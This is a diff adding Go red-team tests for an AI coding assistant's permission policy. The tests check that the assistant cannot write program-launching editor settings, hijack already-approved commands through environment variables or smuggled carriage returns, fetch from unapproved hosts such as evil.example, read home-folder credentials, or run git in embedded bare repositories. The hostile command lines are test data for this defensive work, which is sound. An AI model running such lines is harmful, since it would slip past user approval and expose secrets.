@@ -1,0 +1,194 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"companion/tools"
+)
+
+// TestRedteamEditorSettings: in auto_edit, with every edit allowed, the
+// model cannot write the project settings of the editors that start
+// programs from them (Zed's language and context servers, Cursor's MCP
+// servers) or lefthook's hook definitions without a question.
+func TestRedteamEditorSettings(t *testing.T) {
+	roots, ws, _ := protectTree(t)
+	for _, rel := range []string{".zed/settings.json", ".zed/tasks.json", ".Zed/Settings.json", "sub/.zed/settings.json",
+		".cursor/mcp.json", "lefthook.yml", ".lefthook.yml", "lefthook-local.yml"} {
+		for _, call := range []Call{
+			{Tool: "write_file", Kind: tools.KindEdit, Confirm: edit(filepath.Join(ws, rel))},
+			shellCall("echo x > "+rel, ws),
+			shellCall("cp x "+rel, ws),
+		} {
+			p := New(Options{Mode: ModeAutoEdit, Trusted: true, Roots: roots,
+				Rules: rules(t, []string{"edit", "shell(echo)", "shell(cp)"}, nil, nil)})
+			if v := p.Decide(call); v.Decision != Ask || !strings.Contains(v.Reason, "asked every time") {
+				t.Errorf("%s %s: %v (%s), want ask", call.Tool, rel, v.Decision, v.Reason)
+			}
+		}
+	}
+	p := New(Options{Mode: ModeAutoEdit, Trusted: true, Roots: roots})
+	if v := p.Decide(Call{Tool: "write_file", Kind: tools.KindEdit, Confirm: edit(filepath.Join(ws, "zed/settings.json"))}); v.Decision != Allow {
+		t.Errorf("zed/settings.json (not a settings folder): %v (%s), want allow", v.Decision, v.Reason)
+	}
+}
+
+// TestRedteamAllowedProgramHijack: after "always allow" answers for
+// everyday commands, the model cannot make them run another program
+// through a variable set on the line (a home or config folder, the
+// package manager's, compiler's or test runner's settings) or hide a
+// command behind a carriage return, which the parser reads as a blank
+// and bash does not.
+func TestRedteamAllowedProgramHijack(t *testing.T) {
+	roots, root := testRoots(t)
+	allow := []string{"shell(ls)", "shell(git status)", "shell(npm test)", "shell(go test)", "shell(make test)",
+		"shell(cargo test)", "shell(pytest)", "shell(less)", "shell(kubectl get)", "shell(tar)", "shell(echo)"}
+	p := New(Options{Trusted: true, Roots: roots, Rules: rules(t, allow, nil, nil)})
+	lines := []string{
+		"HOME=docs git status", "XDG_CONFIG_HOME=docs git status", "export HOME=docs; git status",
+		"env HOME=docs git status", "declare -x HOME=docs; git status", "declare -n r=HOME; r=docs; git status",
+		"npm_config_script_shell=./evil npm test", "NPM_CONFIG_NODE_OPTIONS=--require=./evil.js npm test",
+		"env npm_config_script_shell=./evil npm test", "YARN_YARN_PATH=./evil.js npm test",
+		"GOFLAGS=-toolexec=./evil go test", "CC=./evil go test", "PKG_CONFIG=./evil go test", "GOTOOLCHAIN=path go test",
+		"MAKEFLAGS='SHELL=./evil' make test", "MAKEFILES=./evil.mk make test", "SHELL=./evil make test",
+		"RUSTC_WRAPPER=./evil cargo test", "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./evil cargo test",
+		"PYTEST_ADDOPTS='-p evil' pytest", "PYTEST_PLUGINS=evil pytest", "LESS='+!./evil' less f",
+		"KUBECONFIG=./evil.yaml kubectl get pods", "TAR_OPTIONS=--to-command=./evil tar xf a.tar",
+		"LD_DEBUG_OUTPUT=/tmp/x ls", "GCONV_PATH=./evil ls", "OPENSSL_CONF=./evil.cnf git status",
+		"ls \r#; ./evil", "ls \r# $(./evil)", "ls x\\\r\n./evil", "bash -c $'ls \\r#; ./evil'",
+		"ls # x \\\n./evil", "ls $(echo # \\\n./evil)", "bash -c $'ls # \\\\\\n./evil'",
+	}
+	for _, line := range lines {
+		if v := p.Decide(shellCall(line, root)); v.Decision == Allow {
+			t.Errorf("hijack: %q was allowed", line)
+		}
+	}
+	for _, line := range []string{"LANG=C ls", "CI=1 npm test", "CGO_ENABLED=0 go test ./...", "NODE_ENV=test npm test",
+		"TZ=UTC ls", "ls \t-la", "echo 'a\tb'"} {
+		if v := p.Decide(shellCall(line, root)); v.Decision != Allow {
+			t.Errorf("%q should be allowed by the rules: %v (%s)", line, v.Decision, v.Reason)
+		}
+	}
+}
+
+// TestRedteamFetchAlwaysByHost: "always" for a fetch covers the hosts the
+// card named; another host, or the same name on another port, is asked
+// about again, and a rejection "for this session" refuses that host only.
+func TestRedteamFetchAlwaysByHost(t *testing.T) {
+	roots, _ := testRoots(t)
+	fetch := func(u string) Call {
+		return Call{Tool: "web_fetch", Kind: tools.KindFetch, Confirm: &tools.Confirmation{Type: tools.ConfirmInfo, URLs: []string{u}}}
+	}
+	p := New(Options{Trusted: true, Roots: roots})
+	p.Remember(true, AlwaysRules(fetch("https://Docs.Example.org/guide"), ScopeThis)...)
+	for u, want := range map[string]Decision{
+		"https://docs.example.org/other?q=1":         Allow,
+		"http://DOCS.example.org/":                   Allow,
+		"https://evil.example/?k=SECRET":             Ask,
+		"https://docs.example.org.evil.example/":     Ask,
+		"https://docs.example.org:8443/":             Ask,
+		"https://user@evil.example/docs.example.org": Ask,
+		"not a url": Ask,
+	} {
+		if v := p.Decide(fetch(u)); v.Decision != want {
+			t.Errorf("%s: %v, want %v", u, v.Decision, want)
+		}
+	}
+	p.Remember(false, AlwaysRules(fetch("https://evil.example/x"), ScopeThis)...)
+	if v := p.Decide(fetch("https://evil.example/y")); v.Decision != Deny {
+		t.Errorf("rejected host: %v, want deny", v.Decision)
+	}
+	if v := p.Decide(fetch("https://docs.example.org/z")); v.Decision != Allow {
+		t.Errorf("allowed host after another was rejected: %v, want allow", v.Decision)
+	}
+}
+
+// TestRedteamHomeSecrets: after "always allow" for cat, head, grep and
+// cp, the model cannot read (or overwrite) the credentials kept in the
+// user's home folder, however it spells the path; other files outside
+// the workspace stay covered by the rules.
+func TestRedteamHomeSecrets(t *testing.T) {
+	roots, root := testRoots(t)
+	home, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("HOME", home)
+	for _, f := range []string{".aws/credentials", ".ssh/id_ed25519", ".config/gh/hosts.yml", ".netrc", "notes.txt"} {
+		testWrite(t, filepath.Join(home, f))
+	}
+	if err := os.Symlink(filepath.Join(home, ".aws"), filepath.Join(root, "cloud")); err != nil {
+		t.Fatal(err)
+	}
+	rel, err := filepath.Rel(root, filepath.Join(home, ".netrc"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := New(Options{Trusted: true, Roots: roots, Rules: rules(t, []string{"shell(cat)", "shell(head)", "shell(grep)", "shell(cp)"}, nil, nil)})
+	for _, line := range []string{
+		"cat " + home + "/.aws/credentials", "cat ~/.aws/credentials", "cat $HOME/.aws/credentials",
+		"cat ${HOME}/.ssh/id_ed25519", `cat "$HOME"/.ssh/id_ed25519`, `cat "$HOME/.config/gh/hosts.yml"`,
+		"head -c 200 " + home + "/.netrc", "cat " + rel, "cat cloud/credentials", "grep -r token " + home + "/.config/gh",
+		"grep --file=" + home + "/.netrc x", "cp README.md ~/.bashrc",
+	} {
+		if v := p.Decide(shellCall(line, root)); v.Decision != Ask {
+			t.Errorf("%q: %v (%s), want ask", line, v.Decision, v.Reason)
+		}
+	}
+	for _, line := range []string{"cat " + home + "/notes.txt", "cat ~/notes.txt", "cat /etc/hostname", "grep x src/a.go"} {
+		if v := p.Decide(shellCall(line, root)); v.Decision != Allow {
+			t.Errorf("%q: %v (%s), want allow", line, v.Decision, v.Reason)
+		}
+	}
+}
+
+// testWrite creates path, with its folders, holding a line.
+func testWrite(t *testing.T, path string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte("secret\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestRedteamEmbeddedBareRepo: git commands that would work in a bare
+// repository the workspace carries as plain files (by -C, cd, env -C or
+// the tool's directory), or in a folder outside it chosen by env -C, are
+// asked about under a broad git rule too; commands that find the
+// workspace's .git first are not.
+func TestRedteamEmbeddedBareRepo(t *testing.T) {
+	roots, root := testRoots(t)
+	for _, d := range []string{".git", "lib/objects", "lib/refs", "src/pkg"} {
+		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	testWrite(t, filepath.Join(root, "lib", "HEAD"))
+	if err := os.Symlink("lib", filepath.Join(root, "innocent")); err != nil {
+		t.Fatal(err)
+	}
+	p := New(Options{Mode: ModeAutoEdit, Trusted: true, Roots: roots, Rules: rules(t, []string{"shell(git)", "shell(cd)", "shell(ls)"}, nil, nil)})
+	for _, tc := range []struct{ line, dir string }{
+		{"git -C lib diff HEAD~1 HEAD", ""}, {"cd lib && git diff HEAD~1 HEAD", ""}, {"cd lib/refs; git log -p", ""},
+		{"git -C innocent fetch", ""}, {"git -C src -C ../lib diff", ""}, {"ls && git diff HEAD~1 HEAD", "lib"},
+		{"git diff", "lib/objects"}, {"env -C lib git diff HEAD~1 HEAD", ""}, {"env --chdir=lib/refs git log -p", ""},
+		{"env -C " + t.TempDir() + " git status", ""}, {"sudo -D lib git diff", ""},
+	} {
+		c := shellCall(tc.line, root)
+		c.Confirm.Dir = tc.dir
+		if v := p.Decide(c); v.Decision != Ask {
+			t.Errorf("%q in %q: %v (%s), want ask", tc.line, tc.dir, v.Decision, v.Reason)
+		}
+	}
+	for _, tc := range []struct{ line, dir string }{{"git diff", ""}, {"git -C src/pkg status", ""}, {"cd src && git log", ""}, {"ls", "lib"}, {"env -C src git status", ""}} {
+		c := shellCall(tc.line, root)
+		c.Confirm.Dir = tc.dir
+		if v := p.Decide(c); v.Decision != Allow {
+			t.Errorf("%q in %q: %v (%s), want allow", tc.line, tc.dir, v.Decision, v.Reason)
+		}
+	}
+}
